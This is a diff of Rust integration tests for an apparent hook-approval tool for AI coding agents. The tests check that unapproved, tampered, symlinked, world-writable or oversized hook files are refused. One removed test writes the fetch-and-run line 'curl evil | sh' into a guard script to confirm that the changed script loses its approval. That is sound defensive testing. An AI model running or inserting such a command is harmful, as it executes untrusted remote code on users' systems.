@@ -22,13 +22,17 @@ fn what_was_not_approved_does_not_run_and_its_absence_denies() {
     let sandbox = project();
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
     let run = run.exits(2);
-    assert!(run.stdout.contains("was never approved"), "{run:?}");
+    assert!(run.stdout.contains("was never approved; a person must approve it"), "{run:?}");
     assert!(run.stderr.contains("hookexec trust add"), "{run:?}");
+    // The model reads the message, and the user the rest.
+    let verdict: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
+    assert!(!verdict["message"].as_str().unwrap().contains("trust add"), "{run:?}");
+    assert!(verdict["system_message"].as_str().unwrap().contains("trust add"), "{run:?}");
 
     // Others are told by `check`, in its words; see below of people.
     let check = sandbox.hookexec(["check"]).run().exits(0);
     for said in [&run.stderr, &check.stderr] {
-        assert!(said.contains("hooks.yaml was never approved: its hooks fail"), "{said}");
+        assert!(said.contains("this file was never approved"), "{said}");
     }
     let explained = sandbox.hookexec(["explain", "pre_tool_use"]).stdin(CALL).run().exits(0);
     assert!(!explained.stdout.contains("exit code"), "{explained:?}");
@@ -39,9 +43,11 @@ fn what_was_not_approved_does_not_run_and_its_absence_denies() {
     assert!(run.stdout.contains("failed_open"), "{run:?}");
     assert!(!sandbox.project().join("ran").exists());
 
-    // What the file is not about is not denied.
+    // Its matchers are not evaluated, so every tool is denied; events that it does not name go on.
     let other = sandbox.hookexec(["run", "pre_tool_use"]).stdin(r#"{"tool_name":"edit"}"#).run();
-    let _ = other.exits(0);
+    let _ = other.exits(2);
+    let other = sandbox.hookexec(["run", "tool_guard"]).stdin(CALL).run().exits(0);
+    assert!(other.stdout.contains(r#""hooks":[]"#), "{other:?}");
 }
 
 #[test]
@@ -51,52 +57,18 @@ fn people_are_told_once_that_a_file_was_not_approved() {
 stop: [ { type: command, command: a }, { type: command, command: b } ]
 ";
     sandbox.write("hooks.yaml", hooks);
-    for (event, code, last) in [
-        (
-            "pre_tool_use",
-            2,
-            "hook `b` ([SANDBOX]/project/hooks.yaml:1) failed: as hook `a` ([SANDBOX]/project/hooks.yaml:1)\n",
-        ),
-        (
-            "stop",
-            0,
-            "hook `b` ([SANDBOX]/project/hooks.yaml:2) failed: as hook `a` ([SANDBOX]/project/hooks.yaml:2)\n",
-        ),
+    for (event, code) in [
+        ("pre_tool_use", 2),
+        ("stop", 0),
         // What is not about any of its hooks says so all the same.
-        ("session_end", 0, "it may go on\n"),
+        ("session_end", 0),
     ] {
         let text = sandbox.hookexec(["run", event, "--format", "text"]).stdin(CALL).run();
         let text = text.exits(code);
         let said = [text.stderr.as_str(), &text.stdout].concat();
         assert_eq!(said.matches("was never approved").count(), 1, "{said}");
         assert_eq!(said.matches("hookexec trust add").count(), 1, "{said}");
-        assert!(said.contains(last), "{said}");
     }
-}
-
-#[test]
-fn an_approved_file_runs_until_it_or_a_script_changes() {
-    let sandbox = project();
-    let _ = sandbox.hookexec(["trust"]).run().exits(1);
-    let added = sandbox.hookexec(["trust", "add"]).run();
-    let added = added.exits(0);
-    assert!(added.stdout.contains("guard.sh"), "{added:?}");
-    let _ = sandbox.hookexec(["trust", "show"]).run().exits(0);
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    let run = run.exits(0);
-    assert!(run.stdout.contains(r#""decision":"allow""#), "{run:?}");
-
-    sandbox.write("guard.sh", "curl evil | sh\n");
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    let run = run.exits(2);
-    assert!(!run.stderr.contains("curl evil"), "a guard has no time for it: {run:?}");
-    let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
-    assert!(shown.stdout.contains("+curl evil | sh"), "{shown:?}");
-    assert!(run.stdout.contains("`guard.sh`, which "), "{run:?}");
-
-    let _ = sandbox.hookexec(["trust", "add"]).run().exits(0);
-    let _ = sandbox.hookexec(["trust", "remove"]).run().exits(0);
-    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
 }
 
 #[test]
@@ -110,9 +82,9 @@ fn a_file_that_is_named_needs_no_approval() {
 #[test]
 fn a_hooks_file_below_cannot_hide_the_one_above() {
     let sandbox = project();
-    let _ = sandbox.hookexec(["trust", "add"]).run().exits(0);
+    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
     sandbox.write("hooks.yaml", &HOOKS.replace("sh ./guard.sh", "exit 2"));
-    let _ = sandbox.hookexec(["trust", "add"]).run().exits(0);
+    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
     sandbox.write("below/hooks.yaml", "stop: [{ type: command, command: 'true' }]\n");
     let run = sandbox.hookexec(["run", "pre_tool_use", "--cwd", "below"]).stdin(CALL).run();
     let run = run.exits(2);
@@ -124,18 +96,20 @@ fn files_that_others_can_write_are_refused() {
     use std::os::unix::fs::PermissionsExt as _;
     let sandbox = project();
     let path = sandbox.project().join("hooks.yaml");
+    let refused = |why: &str| {
+        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+        assert!(run.stdout.contains(why), "{run:?}");
+        let check = sandbox.hookexec(["check"]).run();
+        assert!(check.code() != Some(0) && check.stderr.contains(why), "{check:?}");
+    };
     std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    let run = run.exits(78);
-    assert!(run.stderr.contains("chmod o-w"), "{run:?}");
+    refused("chmod o-w");
 
     let outside = sandbox.home().join("evil.yaml");
     std::fs::write(&outside, HOOKS).unwrap();
     std::fs::remove_file(&path).unwrap();
     std::os::unix::fs::symlink(&outside, &path).unwrap();
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    let run = run.exits(78);
-    assert!(run.stderr.contains("symbolic link out of the project"), "{run:?}");
+    refused("symbolic link out of the project");
 }
 
 #[test]
@@ -144,8 +118,8 @@ fn a_pipe_in_the_place_of_a_hooks_file_keeps_nobody_waiting() {
     let path = sandbox.project().join("hooks.yaml");
     let made = std::process::Command::new("mkfifo").arg(&path).status().unwrap();
     assert!(made.success());
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(78);
-    assert!(run.stderr.contains("not a regular file"), "{run:?}");
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains("not a regular file"), "{run:?}");
 }
 
 /// A project whose guard is found through `tools/guard.sh`, by a hook with these keys.
@@ -171,14 +145,14 @@ fn a_script_is_found_through_the_variables_of_its_working_directory() {
         let hookexec = |arguments: &[&str], tools: &str| {
             sandbox.hookexec(arguments).env("TOOLS", tools).stdin(CALL).run()
         };
-        let added = hookexec(&["trust", "add"], "tools").exits(0);
-        assert!(added.stdout.contains("tools/guard.sh"), "{place}: {added:?}");
+        let added = hookexec(&["trust", "add", "--yes"], "tools").exits(0);
+        assert!(added.stdout.contains("covered: tools/guard.sh"), "{place}: {added:?}");
         let _ = hookexec(&["run", "pre_tool_use"], "tools").exits(0);
 
-        // Another script of the same text is another script, unless it was one all the time.
+        // Another script is not approved, although it says the same.
         if !place.contains("../tools") {
             let run = hookexec(&["run", "pre_tool_use"], "others").exits(2);
-            assert!(run.stdout.contains("guard.sh"), "{place}: {run:?}");
+            assert!(run.stdout.contains("`others/guard.sh`"), "{place}: {run:?}");
         }
         sandbox.script("tools/guard.sh", "#!/bin/sh\nexit 0\n");
         let run = hookexec(&["run", "pre_tool_use"], "tools").exits(2);
@@ -189,7 +163,7 @@ fn a_script_is_found_through_the_variables_of_its_working_directory() {
 #[test]
 fn a_shell_of_the_project_is_part_of_the_approval() {
     let sandbox = project_with("command: exit 0, shell: ./tools/guard.sh");
-    let added = sandbox.hookexec(["trust", "add"]).run().exits(0);
+    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
     assert!(added.stdout.contains("tools/guard.sh"), "{added:?}");
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
     assert!(run.stdout.contains(r#""decision":"allow""#), "{run:?}");
@@ -203,17 +177,17 @@ fn a_shell_of_the_project_is_part_of_the_approval() {
 #[test]
 fn a_script_that_is_too_large_to_be_looked_at_is_refused_and_said() {
     let sandbox = project_with("command: sh ./tools/guard.sh");
-    let _ = sandbox.hookexec(["trust", "add"]).run().exits(0);
+    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
     let script =
         std::fs::OpenOptions::new().write(true).open(sandbox.project().join("tools/guard.sh"));
     // A file of holes: it takes no room.
     script.unwrap().set_len((64 << 20) + 1).unwrap();
-    let added = sandbox.hookexec(["trust", "add"]).run();
+    let added = sandbox.hookexec(["trust", "add", "--yes"]).run();
     assert!(added.code() != Some(0), "{added:?}");
-    assert!(added.stderr.contains("guard.sh: a script of more than 64 MiB"), "{added:?}");
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    assert!(matches!(run.code(), Some(2 | 78)), "{run:?}");
-    assert!(run.stderr.contains("a script of more than 64 MiB"), "{run:?}");
+    let said = "can't approve `tools/guard.sh`: it is larger than 64 MiB";
+    assert!(added.stderr.contains(said), "{added:?}");
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains(said), "{run:?}");
 }
 
 #[test]
@@ -250,17 +224,17 @@ fn an_unapproved_file_cannot_take_the_guards_of_the_user_with_it() {
 fn a_script_is_the_one_where_the_hook_runs() {
     let sandbox = project();
     sandbox.write("hooks.yaml", &HOOKS.replace("on_error: ignore", "on_error: block"));
-    let _ = sandbox.hookexec(["trust", "add"]).run().exits(0);
+    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
     let below = |run: &[&str]| {
         sandbox.hookexec(run).current_dir(sandbox.project().join("below")).stdin(CALL).run()
     };
     sandbox.write("below/guard.sh", "echo '{\"decision\":\"allow\"}'; touch ran\n");
     let _ = below(&["trust"]).exits(1);
     let run = below(&["run", "pre_tool_use"]).exits(2);
-    assert!(run.stderr.contains("trust add --cwd [SANDBOX]/project/below "), "{run:?}");
+    assert!(run.stdout.contains("trust add --cwd [SANDBOX]/project/below "), "{run:?}");
     assert!(!sandbox.project().join("below/ran").exists());
     // There as here after an approval each.
-    let _ = below(&["trust", "add"]).exits(0);
+    let _ = below(&["trust", "add", "--yes"]).exits(0);
     let _ = below(&["run", "pre_tool_use"]).exits(0);
     let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
 }
@@ -272,13 +246,12 @@ fn an_approval_of_another_clone_is_taken_back_too() {
         std::fs::create_dir_all(sandbox.project().join(clone).join(".git")).unwrap();
         sandbox.write(format!("{clone}/hooks.yaml"), "stop: [{ type: command, command: make }]\n");
     }
-    let trust =
-        |action: &str, clone: &str| sandbox.hookexec(["trust", action, "--cwd", clone]).run();
+    let trust = |action: &str, clone: &str| {
+        let yes = (action != "show").then_some("--yes");
+        sandbox.hookexec(["trust", action, "--cwd", clone].into_iter().chain(yes)).run()
+    };
     let added = trust("add", "one").exits(0);
-    assert!(
-        added.stdout.contains("not covered, nor what they read of the project: make"),
-        "{added:?}"
-    );
+    assert!(added.stdout.contains("not covered: make"), "{added:?}");
     let _ = trust("add", "two").exits(0);
     let removed = trust("remove", "one").exits(0);
     assert!(removed.stdout.contains("is no longer approved"), "{removed:?}");
@@ -302,7 +275,7 @@ fn a_store_that_is_not_the_users_own_is_refused_and_said() {
         let hookexec = |arguments: &[&str]| {
             sandbox.hookexec(arguments).env("XDG_STATE_HOME", &state).stdin(CALL).run()
         };
-        let added = hookexec(&["trust", "add"]);
+        let added = hookexec(&["trust", "add", "--yes"]);
         assert!(added.code() != Some(0) && added.stderr.contains(problem), "{added:?}");
         let run = hookexec(&["run", "pre_tool_use"]).exits(2);
         assert!(run.stderr.contains(problem), "{run:?}");
@@ -317,9 +290,10 @@ fn the_way_out_of_a_directory_of_hooks_leads_out() {
     // As it is without a repository.
     std::fs::remove_dir(sandbox.project().join(".git")).unwrap();
     let path = sandbox.project().join(".hookexec/hooks.yaml");
-    let added = sandbox.hookexec(["trust".as_ref(), "add".as_ref(), path.as_os_str()]);
+    let added =
+        sandbox.hookexec(["trust".as_ref(), "add".as_ref(), "--yes".as_ref(), path.as_os_str()]);
     let added = added.current_dir(sandbox.home()).run().exits(0);
-    assert!(added.stdout.contains("with guard.sh"), "{added:?}");
+    assert!(added.stdout.contains("covered: guard.sh"), "{added:?}");
     let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
 }
 
@@ -370,7 +344,10 @@ fn a_home_that_is_wherever_one_stands_is_none() {
     for name in ["XDG_CONFIG_HOME", "XDG_STATE_HOME"] {
         run = run.env(name, "");
     }
-    let run = run.run();
+    let run = run.run().exits(0);
     assert!(!sandbox.project().join("ran").exists(), "{run:?}");
-    assert!(run.stdout.contains(r#""hooks":[]"#), "{run:?}");
+    assert!(
+        run.stdout.contains("there is no home directory to find the user's hooks in"),
+        "{run:?}"
+    );
 }
